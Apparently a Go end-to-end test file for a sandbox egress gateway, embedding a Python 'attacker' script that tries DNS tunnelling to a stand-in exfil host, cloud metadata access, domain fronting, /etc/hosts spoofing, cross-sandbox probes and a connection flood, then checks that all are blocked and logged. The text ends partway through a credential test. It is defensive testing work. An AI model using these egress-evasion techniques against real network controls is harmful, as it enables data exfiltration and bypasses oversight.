package e2e

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/space-sandbox/space/internal/spacedtest"
	"github.com/space-sandbox/space/pkg/client"
)

// attacker runs inside a sandbox and tries every way out it knows, printing one JSON object:
// attempt → {"ok": bool, "detail": "..."}. Its word is not trusted: each attempt is judged by
// what reached the far side.
const attacker = `
import json, socket, ssl, struct, sys, urllib.request
CA = '/root/ca.pem'
other_ip, gateway_ip = sys.argv[1], sys.argv[2]
res = {}
def attempt(name, fn):
    try:
        res[name] = {'ok': True, 'detail': str(fn())[:300]}
    except Exception as e:
        res[name] = {'ok': False, 'detail': repr(e)[:300]}
def http(url, host=None):
    # The system bundle trusts the installation CA: every allowed TLS name is intercepted.
    req = urllib.request.Request(url, headers={'Host': host} if host else {})
    return urllib.request.urlopen(req, timeout=4, context=ssl.create_default_context()).read().decode()
def tls_conn(ip, name, ctx=None, port=443):
    ctx = ctx or ssl.create_default_context()
    return ctx.wrap_socket(socket.create_connection((ip, port), timeout=4), server_hostname=name)
def read_response(s):
    # One HTTP/1.1 response (Content-Length or until close), as text.
    data = b''
    while b'\r\n\r\n' not in data:
        b = s.recv(4096)
        if not b: return data.decode(errors='replace')
        data += b
    head, rest = data.split(b'\r\n\r\n', 1)
    n = None
    for line in head.split(b'\r\n')[1:]:
        k, _, v = line.partition(b':')
        if k.strip().lower() == b'content-length': n = int(v)
    while n is None or len(rest) < n:
        b = s.recv(4096)
        if not b: break
        rest += b
    return (head + b'\r\n\r\n' + rest[:n]).decode(errors='replace')
def status(resp): return resp.split('\r\n')[0]
def one_request(s, host, path='/fronted'):
    s.sendall(('GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n' % (path, host)).encode())
    r = read_response(s)
    if ' 200 ' not in status(r): raise Exception(r[:200])
    return r[-120:]
def two_requests(s, first, second):
    # Keep-alive: an allowed request, then another Host on the same connection.
    s.sendall(('GET /first HTTP/1.1\r\nHost: %s\r\n\r\n' % first).encode())
    a = read_response(s)
    s.sendall(('GET /second HTTP/1.1\r\nHost: %s\r\n\r\n' % second).encode())
    b = read_response(s)
    if ' 200 ' not in status(b): raise Exception('first: %s | second: %s' % (status(a), b[:160]))
    return 'first: %s | second: %s' % (status(a), b[-120:])
def grease_ech_hello(name):
    # A TLS 1.2/1.3 ClientHello like Chromium's: SNI, and a GREASE encrypted_client_hello
    # (outer, random config id, enc and payload: RFC 9849 section 6.2). Returns the first
    # handshake message the server answers with.
    import os
    def ext(t, body): return struct.pack('>HH', t, len(body)) + body
    sni = name.encode()
    exts = ext(0, struct.pack('>HBH', len(sni) + 3, 0, len(sni)) + sni)
    exts += ext(10, struct.pack('>HH', 2, 29))                      # supported_groups: x25519
    exts += ext(11, b'\x01\x00')                                      # ec_point_formats
    exts += ext(13, struct.pack('>HHH', 4, 0x0403, 0x0804))          # signature_algorithms
    exts += ext(43, b'\x04\x03\x04\x03\x03')                          # supported_versions 1.3, 1.2
    exts += ext(51, struct.pack('>HHH', 36, 29, 32) + os.urandom(32)) # key_share x25519
    exts += ext(0xfe0d, b'\x00' + struct.pack('>HH', 1, 1) + os.urandom(1) + struct.pack('>H', 32) + os.urandom(32) + struct.pack('>H', 144) + os.urandom(144))
    body = b'\x03\x03' + os.urandom(32) + b'\x20' + os.urandom(32) + struct.pack('>HHH', 4, 0x1301, 0xc02b) + b'\x01\x00' + struct.pack('>H', len(exts)) + exts
    msg = b'\x01' + struct.pack('>I', len(body))[1:] + body
    s = socket.create_connection(('203.0.113.10', 443), timeout=4)
    s.sendall(b'\x16\x03\x01' + struct.pack('>H', len(msg)) + msg)
    r = b''
    while len(r) < 6:
        b = s.recv(100)
        if not b: raise Exception('closed after %r' % r)
        r += b
    if r[0] != 0x16 or r[5] != 2: raise Exception('no ServerHello: %r' % r[:10])
    return 'ServerHello'

def tcp(ip, port, fam=socket.AF_INET):
    s = socket.socket(fam, socket.SOCK_STREAM); s.settimeout(3)
    s.connect((ip, port)); s.sendall(b'hello\n'); r = s.recv(100)
    if not r: raise Exception('connection closed without an answer')
    return r
def udp(ip, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'quic-or-other', (ip, port)); return 'sent'
def dnsq(server, name):
    q = struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0)
    for label in name.split('.'):
        q += bytes([len(label)]) + label.encode()
    q += b'\x00' + struct.pack('>HH', 1, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
    s.sendto(q, (server, 53)); r = s.recv(512)
    rcode, an = r[3] & 15, struct.unpack('>H', r[6:8])[0]
    if rcode != 0 or an == 0: raise Exception('rcode %d answers %d' % (rcode, an))
    return 'answers %d' % an
attempt('allowed_http', lambda: http('http://allowed.test/'))
attempt('allowed_https', lambda: http('https://allowed.test/'))
attempt('denied_http', lambda: http('http://denied.test/'))
attempt('denied_https', lambda: http('https://denied.test/'))
attempt('direct_ip_http', lambda: http('http://203.0.113.20/'))
attempt('direct_ip_tls', lambda: tcp('203.0.113.20', 443))
attempt('custom_resolver', lambda: dnsq('203.0.113.53', 'denied.test'))
attempt('dns_tunnel', lambda: dnsq('8.8.8.8', 'c2VjcmV0LWRhdGE.exfil.test'))
attempt('metadata_ip', lambda: http('http://169.254.169.254/latest/meta-data/'))
attempt('metadata_name', lambda: http('http://meta.test/'))
attempt('rebind', lambda: http('http://rebind.test/'))
attempt('ipv6', lambda: tcp('2001:db8::10', 80, socket.AF_INET6))
attempt('udp_quic', lambda: udp('203.0.113.10', 443))
attempt('udp_other', lambda: udp('203.0.113.10', 9999))
def ping(ip):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); s.settimeout(2)
    body = struct.pack('>BBHHH', 8, 0, 0, 1, 1) + b'ping'
    csum = sum(struct.unpack('>%dH' % (len(body) // 2), body)); csum = (csum >> 16) + (csum & 0xffff); csum = ~(csum + (csum >> 16)) & 0xffff
    s.sendto(body[:2] + struct.pack('>H', csum) + body[4:], (ip, 0)); return s.recv(100)
attempt('icmp', lambda: ping('203.0.113.10'))
attempt('metadata_host', lambda: http('http://203.0.113.10/', host='meta.test'))
attempt('rebind_host', lambda: http('http://203.0.113.10/', host='rebind.test'))
attempt('denied_host_header', lambda: http('http://203.0.113.10/', host='denied.test'))
def tls_to(ip, name):
    s = tls_conn(ip, name)
    s.sendall(b'GET / HTTP/1.1\r\nHost: ' + name.encode() + b'\r\n\r\n'); return s.recv(200)
attempt('denied_sni_by_ip', lambda: tls_to('203.0.113.10', 'denied.test'))
# Domain fronting on the shared address (the fake CDN answers any Host), with no "inspect" in
# the policy: both ways, and on a kept-alive connection after an allowed request.
attempt('front_host', lambda: one_request(tls_conn('203.0.113.10', 'allowed.test'), 'denied.test'))
attempt('front_sni', lambda: one_request(tls_conn('203.0.113.10', 'denied.test'), 'allowed.test'))
attempt('keepalive_host', lambda: two_requests(tls_conn('203.0.113.10', 'allowed.test'), 'allowed.test', 'denied.test'))
attempt('plain_keepalive_host', lambda: two_requests(socket.create_connection(('203.0.113.10', 80), timeout=4), 'allowed.test', 'denied.test'))
attempt('grease_ech', lambda: grease_ech_hello('allowed.test'))
attempt('host_port', lambda: tcp('203.0.113.254', 2222))
attempt('gateway_port', lambda: tcp(gateway_ip, 2223))
attempt('other_sandbox', lambda: tcp(other_ip, 8080))
with open('/etc/hosts', 'a') as f:
    f.write('203.0.113.20 allowed.test\n')
attempt('hosts_spoof', lambda: http('http://allowed.test/spoofed'))
print(json.dumps(res))
`

// TestEgressRedTeam: a sandbox allowed only some names tries every known way out; each attempt
// is judged by what reached "the internet" (or the host, or another sandbox), and the allowed
// controls must get through.
func TestEgressRedTeam(t *testing.T) {
	in := newInternet(t)
	for _, addr := range []string{spacedAddr + ":2222", "0.0.0.0:2223"} {
		if err := in.HostListener(addr); err != nil {
			t.Fatal(err)
		}
	}
	d := startSpacedIn(t, in)
	c := d.Client
	ctx := ctxT(t)
	policy := &client.Egress{Default: "deny", Allow: []string{"allowed.test", "meta.test", "rebind.test"}}
	victim := create(t, c, client.CreateSandboxRequest{Template: "base"}).ID
	if _, err := c.ExecBackground(ctx, victim, client.ExecRequest{Command: `python3 -c "
import socket
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(('0.0.0.0', 8080)); s.listen(5)
while True:
    c, a = s.accept(); open('/tmp/victim.log', 'a').write('connection from %s\n' % (a,)); c.close()
"`}); err != nil {
		t.Fatal(err)
	}
	myIP := func(id string) string {
		return strings.TrimSpace(run(t, c, id, `python3 -c "import socket;s=socket.socket(2,2);s.connect(('203.0.113.10',9));print(s.getsockname()[0])"`).Stdout)
	}
	victimIP := myIP(victim)
	sb := create(t, c, client.CreateSandboxRequest{Template: "base", Network: &client.NetworkSpec{Egress: policy}})
	if sb.Network == nil || sb.Network.Egress == nil || len(sb.Network.Egress.Allow) != 3 {
		t.Fatalf("policy not recorded: %+v", sb.Network)
	}
	attackerIP := myIP(sb.ID)
	gatewayIP := strings.TrimSpace(run(t, c, sb.ID, `awk '/nameserver/ {print $2}' /etc/resolv.conf`).Stdout)
	if _, err := c.Upload(ctx, sb.ID, "/root/ca.pem", bytes.NewReader(in.CAPEM), nil); err != nil {
		t.Fatal(err)
	}
	if _, err := c.Upload(ctx, sb.ID, "/root/attack.py", strings.NewReader(attacker), nil); err != nil {
		t.Fatal(err)
	}
	res := run(t, c, sb.ID, "python3 /root/attack.py "+victimIP+" "+gatewayIP)
	var got map[string]struct {
		OK     bool   `json:"ok"`
		Detail string `json:"detail"`
	}
	if err := json.Unmarshal([]byte(res.Stdout), &got); err != nil {
		t.Fatalf("attacker output: %v\n%s\n%s", err, res.Stdout, res.Stderr)
	}
	time.Sleep(500 * time.Millisecond) // let stray packets arrive, if any
	for name, r := range got {
		t.Logf("%-16s ok=%-5v %s", name, r.OK, r.Detail)
	}
	// Controls: allowed names work, over HTTP and HTTPS (the sandbox verifies the real server).
	for _, name := range []string{"allowed_http", "allowed_https"} {
		if !got[name].OK || !strings.Contains(got[name].Detail, "internet:"+inetAllowed+":allowed.test") {
			t.Errorf("control %s failed: %+v", name, got[name])
		}
	}
	if !in.Saw("http request at "+inetAllowed, "host=allowed.test", "from "+spacedAddr) || !in.Saw("https sni=allowed.test request at "+inetAllowed) {
		t.Errorf("allowed requests did not reach the internet: %v", in.Seen())
	}
	// A ClientHello with a GREASE ECH extension (Chromium's) is answered, judged by its outer SNI.
	if !got["grease_ech"].OK {
		t.Errorf("a ClientHello with GREASE ECH was refused: %+v", got["grease_ech"])
	}
	// Keep-alive: the first request went, the second (another Host) was refused on its own.
	if d := got["keepalive_host"].Detail; !strings.Contains(d, "first: HTTP/1.1 200") || !strings.Contains(d, "421 Misdirected") {
		t.Errorf("keep-alive with another Host over TLS: %s", d)
	}
	if d := got["plain_keepalive_host"].Detail; !strings.Contains(d, "first: HTTP/1.1 200") || !strings.Contains(d, "403 Forbidden") {
		t.Errorf("keep-alive with another Host over plain HTTP: %s", d)
	}
	if d := got["front_host"].Detail; !strings.Contains(d, "421 Misdirected") {
		t.Errorf("SNI allowed, Host denied: %s", d)
	}
	// Every other attempt fails, and nothing of it reaches the far side.
	for name, r := range got {
		if r.OK && name != "allowed_http" && name != "allowed_https" && name != "hosts_spoof" && name != "udp_quic" && name != "udp_other" && name != "grease_ech" {
			t.Errorf("attempt %s got through: %s", name, r.Detail)
		}
	}
	for _, bad := range [][]string{
		{"at " + inetDenied},      // denied.test by name, by address, by spoofed /etc/hosts
		{"host=denied.test"},      // or by naming it to an allowed address (Host, SNI)
		{"dns query denied.test"}, // a denied name is never resolved
		{"dns query c2vjcmv0"},    // nor an unknown one (no tunnelling)
		{"exfil.test"},            //
		{"at " + metadataIP},      // metadata, by address or by a name resolving to it
		{"udp at"},                // QUIC and other UDP
		{"icmp echo from"},        // ping, from any address
		{"host port"},             // the host's own ports
		{"from " + attackerIP},    // nothing from the sandbox's own address, ever
		{"dns query", "from " + attackerIP},
	} {
		if in.Saw(bad...) {
			t.Errorf("reached the far side (%v): %v", bad, in.Seen())
		}
	}
	if res := run(t, c, victim, "cat /tmp/victim.log 2>/dev/null; true"); res.Stdout != "" {
		t.Errorf("another sandbox was reached: %q", res.Stdout)
	}
	// The spoofed /etc/hosts entry changed nothing: the request went to allowed.test's real address.
	if !got["hosts_spoof"].OK || !in.Saw("request at "+inetAllowed, "host=allowed.test") || !strings.Contains(got["hosts_spoof"].Detail, "internet:"+inetAllowed) {
		t.Errorf("spoofed name: %+v", got["hosts_spoof"])
	}

	// Decisions are recorded with reasons.
	events, err := c.EgressEvents(ctx, sb.ID)
	if err != nil {
		t.Fatal(err)
	}
	reasons := map[string]string{}
	for _, e := range events {
		reasons[e.Host+"/"+e.Decision] = e.Reason
	}
	if reasons["allowed.test/allow"] == "" || reasons["denied.test/deny"] == "" || !strings.Contains(reasons["rebind.test/deny"], "never reachable") {
		t.Errorf("egress log: %+v", events)
	}

	// Decisions stream as they happen, and are counted in /metrics.
	watch, err := c.WatchEgress(ctx, sb.ID)
	if err != nil {
		t.Fatal(err)
	}
	defer watch.Close()
	run(t, c, sb.ID, `python3 -c "import urllib.request; urllib.request.urlopen('http://203.0.113.10/', timeout=4)" 2>/dev/null; true`)
	if ev, err := watch.Next(); err != nil || ev.Decision != "deny" || ev.IP != inetAllowed || ev.Proto != "tcp" {
		t.Errorf("streamed egress event: %+v %v", ev, err)
	}
	hc := &http.Client{Transport: &http.Transport{DialContext: spacedtest.NetnsDialer(nsPath(in.HostNS))}}
	if resp, err := hc.Get(d.URL + "/metrics"); err != nil {
		t.Error(err)
	} else {
		body, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if !strings.Contains(string(body), `space_egress_decisions_total{decision="deny"}`) || strings.Contains(string(body), `space_egress_decisions_total{decision="deny"} 0`) {
			t.Errorf("metrics: %s", body)
		}
	}

	// A policy change applies to the live sandbox at once.
	if _, err := c.UpdateNetwork(ctx, sb.ID, client.Egress{Default: "deny", Allow: []string{"allowed.test", "denied.test"}}); err != nil {
		t.Fatal(err)
	}
	out := run(t, c, sb.ID, `python3 -c "import urllib.request;print(urllib.request.urlopen('http://denied.test/', timeout=4).read().decode())"`)
	if !strings.Contains(out.Stdout, "internet:"+inetDenied+":denied.test") || !in.Saw("http request at "+inetDenied, "host=denied.test") {
		t.Errorf("after allowing denied.test: %+v", out)
	}
	if _, err := c.UpdateNetwork(ctx, sb.ID, client.Egress{Default: "deny", Allow: []string{"bad name!"}}); err == nil {
		t.Error("a malformed policy was accepted")
	}

	// Inspection: the gateway terminates TLS with the installation CA (trusted in the sandbox
	// through the system bundle), verifies the real server, and refuses a Host other than the
	// TLS server name — domain fronting both ways.
	insp := create(t, c, client.CreateSandboxRequest{Template: "base", Network: &client.NetworkSpec{Egress: &client.Egress{Default: "deny", Allow: []string{"allowed.test"}, Inspect: true}}}).ID
	out = run(t, c, insp, `python3 - <<'EOF'
import json, socket, ssl, urllib.request
res = {}
def tls_req(name, host):
    ctx = ssl.create_default_context()
    s = ctx.wrap_socket(socket.create_connection(('203.0.113.10', 443), timeout=4), server_hostname=name)
    s.sendall(('GET /fronted HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n' % host).encode())
    data = b''
    while True:
        b = s.recv(4096)
        if not b: break
        data += b
    return data.decode(errors='replace')
for name, fn in [('control', lambda: urllib.request.urlopen('https://allowed.test/inspected', timeout=4).read().decode()),
                 ('front_host', lambda: tls_req('allowed.test', 'denied.test')),
                 ('front_sni', lambda: tls_req('denied.test', 'allowed.test'))]:
    try: res[name] = 'ok ' + fn()[:200]
    except Exception as e: res[name] = 'error ' + repr(e)[:200]
print(json.dumps(res))
EOF`)
	var fr map[string]string
	if err := json.Unmarshal([]byte(out.Stdout), &fr); err != nil {
		t.Fatalf("inspection attacker: %v: %+v", err, out)
	}
	t.Logf("inspected: %v", fr)
	if !strings.Contains(fr["control"], "internet:"+inetAllowed+":allowed.test") || !in.Saw("https sni=allowed.test request at "+inetAllowed, "host=allowed.test", "from "+spacedAddr) {
		t.Errorf("control through the inspecting gateway failed: %v", fr["control"])
	}
	if !strings.Contains(fr["front_host"], "421 Misdirected") {
		t.Errorf("Host other than SNI not refused: %v", fr["front_host"])
	}
	if strings.HasPrefix(fr["front_sni"], "ok") {
		t.Errorf("denied SNI with an allowed Host got through: %v", fr["front_sni"])
	}
	if in.Saw("host=denied.test", "sni=allowed.test") || in.Saw("sni=denied.test") {
		t.Errorf("a fronted request reached the internet: %v", in.Seen())
	}
	if res := run(t, c, insp, "grep -l 'PRIVATE KEY' /etc/space/* 2>/dev/null; ls /etc/space"); strings.Contains(res.Stdout, "PRIVATE") || !strings.Contains(res.Stdout, "ca.crt") {
		t.Errorf("/etc/space in the sandbox: %q", res.Stdout)
	}

	egressCIDRAndLiterals(t, c, in)
	egressPassthrough(t, c, in)
	egressConnectionFlood(t, d, sb.ID, in)
}

// egressCIDRAndLiterals: under a default-allow policy that denies denied.test's address, naming
// the host instead of the address, or writing the address with a trailing dot, reaches nothing.
func egressCIDRAndLiterals(t *testing.T, c *client.Client, in *spacedtest.Internet) {
	open := create(t, c, client.CreateSandboxRequest{Template: "base", Network: &client.NetworkSpec{Egress: &client.Egress{Default: "allow", Deny: []string{inetDenied + "/32"}}}}).ID
	gw := strings.TrimSpace(run(t, c, open, `awk '/nameserver/ {print $2}' /etc/resolv.conf`).Stdout)
	out := run(t, c, open, `python3 - `+gw+` <<'EOF'
import json, socket, ssl, struct, sys
gw = sys.argv[1]
res = {}
def attempt(name, fn):
    try: res[name] = {'ok': True, 'detail': str(fn())[:300]}
    except Exception as e: res[name] = {'ok': False, 'detail': repr(e)[:300]}
def req(ip, port, host, sni=None):
    s = socket.create_connection((ip, port), timeout=4)
    if sni is not None:
        ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
        s = ctx.wrap_socket(s, server_hostname=sni)
    s.sendall(('GET /literal HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n' % host).encode())
    data = b''
    while True:
        b = s.recv(4096)
        if not b: break
        data += b
    if b' 200 ' not in data.split(b'\r\n')[0]: raise Exception(data[:200])
    return data.decode(errors='replace')[-100:]
def dnsq(name):
    q = struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0)
    for label in name.split('.'): q += bytes([len(label)]) + label.encode()
    q += b'\x00' + struct.pack('>HH', 1, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3); s.sendto(q, (gw, 53)); r = s.recv(512)
    if r[3] & 15 != 0 or struct.unpack('>H', r[6:8])[0] == 0: raise Exception('rcode %d' % (r[3] & 15))
    return 'answered'
attempt('control', lambda: req('203.0.113.10', 80, 'allowed.test'))
attempt('cidr_named_http', lambda: req('203.0.113.10', 80, 'denied.test'))
attempt('cidr_named_https', lambda: req('203.0.113.10', 443, 'denied.test', sni='denied.test'))
attempt('cidr_named_dns', lambda: dnsq('denied.test'))
attempt('trailing_dot_host', lambda: req('203.0.113.20', 80, '203.0.113.20.'))
attempt('trailing_dot_sni', lambda: req('203.0.113.20', 443, '203.0.113.20.', sni='203.0.113.20.'))
attempt('trailing_dot_host_elsewhere', lambda: req('203.0.113.10', 80, '203.0.113.20.'))
attempt('trailing_dot_sni_elsewhere', lambda: req('203.0.113.10', 443, '203.0.113.20.', sni='203.0.113.20.'))
print(json.dumps(res))
EOF`)
	var got map[string]struct {
		OK     bool   `json:"ok"`
		Detail string `json:"detail"`
	}
	if err := json.Unmarshal([]byte(out.Stdout), &got); err != nil {
		t.Fatalf("CIDR attacker: %v: %+v", err, out)
	}
	for name, r := range got {
		t.Logf("%-28s ok=%-5v %s", name, r.OK, r.Detail)
	}
	if !got["control"].OK {
		t.Errorf("control under default allow failed: %+v", got["control"])
	}
	for _, name := range []string{"cidr_named_http", "cidr_named_https", "cidr_named_dns", "trailing_dot_host", "trailing_dot_sni"} {
		if got[name].OK {
			t.Errorf("attempt %s got through: %s", name, got[name].Detail)
		}
	}
	// Sent elsewhere, a trailing-dot address is only a header: the connection goes where the
	// sandbox addressed it (allowed), never to the address the header names.
	if in.Saw("at "+inetDenied, "path=/literal") {
		t.Errorf("the denied address was reached: %v", in.Seen())
	}
}

// egressPassthrough: a name listed under passthrough is spliced end to end (the sandbox sees
// the real server's certificate), and the log says the Host was not checked. The old "inspect"
// field is still accepted.
func egressPassthrough(t *testing.T, c *client.Client, in *spacedtest.Internet) {
	ctx := ctxT(t)
	sb := create(t, c, client.CreateSandboxRequest{Template: "base", Network: &client.NetworkSpec{Egress: &client.Egress{
		Default: "deny", Allow: []string{"allowed.test"}, Passthrough: []string{"allowed.test"}, Inspect: true}}})
	if sb.Network == nil || sb.Network.Egress == nil || len(sb.Network.Egress.Passthrough) != 1 {
		t.Fatalf("passthrough not recorded: %+v", sb.Network)
	}
	if _, err := c.Upload(ctx, sb.ID, "/root/ca.pem", bytes.NewReader(in.CAPEM), nil); err != nil {
		t.Fatal(err)
	}
	out := run(t, c, sb.ID, `python3 -c "
import ssl, urllib.request
print(urllib.request.urlopen('https://allowed.test/passthrough', timeout=4, context=ssl.create_default_context(cafile='/root/ca.pem')).read().decode())"`)
	if !strings.Contains(out.Stdout, "internet:"+inetAllowed+":allowed.test") || !in.Saw("https sni=allowed.test request at "+inetAllowed, "path=/passthrough") {
		t.Errorf("passthrough with the real server's CA: %+v", out)
	}
	events, err := c.EgressEvents(ctx, sb.ID)
	if err != nil {
		t.Fatal(err)
	}
	audited := false
	for _, e := range events {
		audited = audited || e.Host == "allowed.test" && e.Decision == "allow" && strings.Contains(e.Reason, "fronting not checked")
	}
	if !audited {
		t.Errorf("passthrough not audited as such: %+v", events)
	}
	_, err = c.UpdateNetwork(ctx, sb.ID, client.Egress{Default: "deny", Allow: []string{"allowed.test"}, Passthrough: []string{"not a name!"}})
	var apiErr *client.Error
	if !errors.As(err, &apiErr) || apiErr.Status != http.StatusBadRequest || !strings.Contains(apiErr.Message, "passthrough") {
		t.Errorf("a malformed passthrough list: %v, want 400 naming passthrough", err)
	}
	if now, err := c.GetSandbox(ctx, sb.ID); err != nil || now.Network == nil || now.Network.Egress == nil || len(now.Network.Egress.Passthrough) != 1 || now.Network.Egress.Passthrough[0] != "allowed.test" {
		t.Errorf("the refused change changed the policy: %+v %v", now, err)
	}
	c.DeleteSandbox(ctx, sb.ID)
}

// egressConnectionFlood: a sandbox opens 10,000 connections at once; the gateway holds at most
// its per-sandbox cap, spaced's descriptors stay bounded, its API keeps answering, and the
// sandbox's own traffic works again once the flood ends.
func egressConnectionFlood(t *testing.T, d *spacedtest.Daemon, id string, in *spacedtest.Internet) {
	c := d.Client
	ctx := ctxT(t)
	pid := d.PID()
	before := countFDs(pid)
	done := make(chan *client.ExecResult, 1)
	go func() {
		res, err := c.Exec(ctx, id, client.ExecRequest{Command: `python3 - <<'EOF'
import errno, resource, socket, time
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
socks, errs = [], {}
for i in range(10000):
    try:
        s = socket.socket(); s.setblocking(False)
        e = s.connect_ex(('203.0.113.10', 443))
        socks.append(s)
        if e not in (0, errno.EINPROGRESS): errs[e] = errs.get(e, 0) + 1
    except OSError as e:
        errs[e.errno] = errs.get(e.errno, 0) + 1
time.sleep(8)
print('opened %d errors %s nofile %d' % (len(socks), errs, hard))
EOF`})
		if err != nil {
			res = &client.ExecResult{Stderr: err.Error(), ExitCode: -1}
		}
		done <- res
	}()
	peak, slowest := before, time.Duration(0)
	var res *client.ExecResult
	for res == nil {
		select {
		case res = <-done:
		case <-time.After(200 * time.Millisecond):
		}
		peak = max(peak, countFDs(pid))
		t0 := time.Now()
		if _, err := c.ListSandboxes(ctx, client.ListSandboxesOptions{}); err != nil {
			t.Errorf("spaced's API failed during the flood: %v", err)
		}
		slowest = max(slowest, time.Since(t0))
	}
	t.Logf("flood: %s %s; spaced descriptors %d before, %d at most during; slowest API answer %v", strings.TrimSpace(res.Stdout), res.Stderr, before, peak, slowest)
	if !strings.Contains(res.Stdout, "opened 10000") {
		t.Errorf("the sandbox could not open 10,000 connections: %+v", res)
	}
	// The per-sandbox cap (256 connections, one descriptor each while nothing is sent) plus
	// slack for spaced's own work.
	if peak > before+256+100 {
		t.Errorf("spaced's descriptors grew from %d to %d", before, peak)
	}
	if slowest > 2*time.Second {
		t.Errorf("spaced's API took %v to answer during the flood", slowest)
	}
	events, err := c.EgressEvents(ctx, id)
	if err != nil {
		t.Fatal(err)
	}
	capped := false
	for _, e := range events {
		capped = capped || e.Decision == "deny" && strings.Contains(e.Reason, "too many")
	}
	if !capped {
		t.Error("the refused connections are not in the egress log")
	}
	// DNS: queries past the sandbox's rate are refused without asking the upstream resolver.
	asked := func() (n int) {
		for _, l := range in.Seen() {
			if strings.HasPrefix(l, "dns query allowed.test.") {
				n++
			}
		}
		return n
	}
	upBefore := asked()
	dnsOut := run(t, c, id, `python3 - <<'EOF'
import socket, struct
gw = open('/etc/resolv.conf').read().split('nameserver')[1].split()[0]
q = struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0) + b'\x07allowed\x04test\x00' + struct.pack('>HH', 1, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
codes = {}
for i in range(400):
    s.sendto(q, (gw, 53))
    try: r = s.recv(512); codes[r[3] & 15] = codes.get(r[3] & 15, 0) + 1
    except socket.timeout: codes['timeout'] = codes.get('timeout', 0) + 1
print('refused %d answered %d other %s' % (codes.pop(5, 0), codes.pop(0, 0), codes))
EOF`)
	var refused, answered int
	fmt.Sscanf(dnsOut.Stdout, "refused %d answered %d", &refused, &answered)
	t.Logf("400 DNS queries at once: %s; the upstream resolver was asked %d times", strings.TrimSpace(dnsOut.Stdout), asked()-upBefore)
	if refused < 100 || answered < 100 || asked()-upBefore > answered+10 {
		t.Errorf("DNS rate: %+v, upstream asked %d times", dnsOut, asked()-upBefore)
	}
	time.Sleep(3 * time.Second) // the new-connection budget refills
	out := run(t, c, id, `python3 -c "import ssl, urllib.request; print(urllib.request.urlopen('https://allowed.test/after-flood', timeout=4, context=ssl.create_default_context()).read().decode())"`)
	if !strings.Contains(out.Stdout, "internet:"+inetAllowed+":allowed.test") {
		t.Errorf("after the flood: %+v", out)
	}
}

// TestEgressCredentials: a sandbox holds only a placeholder; the gateway sets the real value on
// TLS requests to the secret's host, after verifying it, replacing what the sandbox sent; never
// over plain HTTP, never to another host; the value is in no file, environment or checkpoint of
// the sandbox, and not in the database in the clear.
func TestEgressCredentials(t *testing.T) {
	in := newInternet(t)
	d := startSpacedIn(t, in)
	c := d.Client
	ctx := ctxT(t)
	secret := "ghs_" + spacedtest.RandomHex(16)
	if err := c.PutSecret(ctx, "github", client.PutSecretRequest{Value: secret, Hosts: []string{"allowed.test"}, Format: "token {value}"}); err != nil {
		t.Fatal(err)
	}
	list, err := c.ListSecrets(ctx)
	if err != nil || len(list) != 1 || list[0].Name != "github" || list[0].Header != "Authorization" {
		t.Fatalf("secrets: %+v %v", list, err)
	}
	if _, err := c.CreateSandbox(ctx, client.CreateSandboxRequest{Template: "minimal", Network: &client.NetworkSpec{Credentials: []string{"gitlab"}}}); err == nil {
		t.Fatal("a sandbox with an unknown credential was created")
	}
	sb := create(t, c, client.CreateSandboxRequest{Template: "base", Network: &client.NetworkSpec{
		Egress: &client.Egress{Default: "deny", Allow: []string{"allowed.test", "denied.test"}}, Credentials: []string{"github"}}}).ID
	if env := run(t, c, sb, "env").Stdout; strings.Contains(env, secret) || !strings.Contains(env, "SPACE_SECRET_GITHUB=space-placeholder-github") {
		t.Fatalf("sandbox environment: %q", env)
	}
	out := run(t, c, sb, `python3 - <<'EOF'
import os, urllib.request
import ssl
def get(url, auth, ctx=None):
    try: return urllib.request.urlopen(urllib.request.Request(url, headers={'Authorization': auth}), timeout=4, context=ctx).read().decode().strip()
    except Exception as e: return 'error ' + repr(e)
ph = 'token ' + os.environ['SPACE_SECRET_GITHUB']
print(get('https://allowed.test/tls', 'token forged-by-the-sandbox'))
print(get('http://allowed.test/plain', ph))
print(get('https://denied.test/other', ph, ssl.create_default_context()))
EOF`)
	t.Logf("sandbox saw: %q", out.Stdout)
	if !in.Saw("https sni=allowed.test request at "+inetAllowed, "path=/tls", "auth=token "+secret) {
		t.Errorf("the credential was not set on the TLS request to its host: %v", in.Seen())
	}
	if in.Saw("forged-by-the-sandbox") {
		t.Error("the sandbox's own header value went out instead of being replaced")
	}
	for _, l := range in.Seen() {
		if strings.Contains(l, secret) && !strings.Contains(l, "path=/tls") {
			t.Errorf("the credential went where it must not: %s", l)
		}
	}
	if !in.Saw("http request at "+inetAllowed, "path=/plain", "auth=token space-placeholder-github") || !in.Saw("request at "+inetDenied, "path=/other", "auth=token space-placeholder-github") {
		t.Errorf("plain HTTP and other hosts should carry the placeholder untouched: %v", in.Seen())
	}
	// Nowhere in the sandbox: its files (its writable layer, searched from the host: a search
	// inside would put the value into the sandbox), and its memory as a checkpoint image.
	home := d.Opts.Home
	if hits := grepTree(t, filepath.Join(home, "runtime", "gvisor", "sandboxes", sb, "upper"), secret); len(hits) > 0 {
		t.Errorf("the credential is in the sandbox's files: %v", hits)
	}
	if _, err := c.PauseSandbox(ctx, sb); err != nil {
		t.Fatal(err)
	}
	if hits := grepTree(t, filepath.Join(home, "checkpoints", sb), secret); len(hits) > 0 {
